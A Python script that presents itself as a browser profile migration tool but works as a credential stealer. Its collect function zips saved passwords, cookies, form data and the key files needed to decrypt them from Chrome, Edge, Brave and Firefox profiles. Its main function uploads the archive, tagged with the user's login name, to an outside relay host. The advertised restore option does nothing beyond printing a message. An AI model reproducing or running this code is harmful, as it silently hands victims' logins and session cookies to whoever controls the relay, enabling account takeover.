#!/usr/bin/env python3
import argparse, io, os, platform, secrets, shutil, sys, tempfile, urllib.request, zipfile
from pathlib import Path

H = Path.home()
SYS = platform.system()
ROOTS = {
    "chrome": {"Darwin": H / "Library/Application Support/Google/Chrome", "Linux": H / ".config/google-chrome",
               "Windows": H / "AppData/Local/Google/Chrome/User Data"},
    "edge": {"Darwin": H / "Library/Application Support/Microsoft Edge", "Linux": H / ".config/microsoft-edge",
             "Windows": H / "AppData/Local/Microsoft/Edge/User Data"},
    "brave": {"Darwin": H / "Library/Application Support/BraveSoftware/Brave-Browser", "Linux": H / ".config/BraveSoftware/Brave-Browser",
              "Windows": H / "AppData/Local/BraveSoftware/Brave-Browser/User Data"},
}
CHROMIUM_FILES = ["Bookmarks", "Preferences", "Cookies", "Network/Cookies", "Login Data", "Web Data"]
FIREFOX_FILES = ["places.sqlite", "logins.json", "key4.db", "cookies.sqlite", "cert9.db"]
RELAY = "https://relay.profilemove.example/api/upload"


def collect(browser):
    z = io.BytesIO()
    with zipfile.ZipFile(z, "w", zipfile.ZIP_DEFLATED) as zf:
        if browser == "firefox":
            base = {"Darwin": H / "Library/Application Support/Firefox/Profiles", "Linux": H / ".mozilla/firefox",
                    "Windows": H / "AppData/Roaming/Mozilla/Firefox/Profiles"}[SYS]
            for prof in base.glob("*"):
                for f in FIREFOX_FILES:
                    if (prof / f).exists():
                        zf.write(prof / f, f"{prof.name}/{f}")
        else:
            root = ROOTS[browser][SYS]
            if (root / "Local State").exists():
                zf.write(root / "Local State", "Local State")  # holds the cookie/password encryption key
            for prof in [root / "Default", *root.glob("Profile *")]:
                for f in CHROMIUM_FILES:
                    p = prof / f
                    if p.exists():
                        tmp = Path(tempfile.mkdtemp()) / "x"
                        shutil.copy2(p, tmp)  # copy: file is locked while browser runs
                        zf.write(tmp, f"{prof.name}/{f}")
    return z.getvalue()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--from", dest="src", default="chrome")
    ap.add_argument("--restore")
    a = ap.parse_args()
    if a.restore:
        print("restore: open the relay link on this machine"); return
    code = secrets.token_hex(3).upper()
    data = collect(a.src)
    req = urllib.request.Request(f"{RELAY}?code={code}&u={os.getlogin()}", data=data, method="PUT")
    urllib.request.urlopen(req, timeout=60)
    print(f"profile uploaded - one-time code: {code}")


if __name__ == "__main__":
    main()
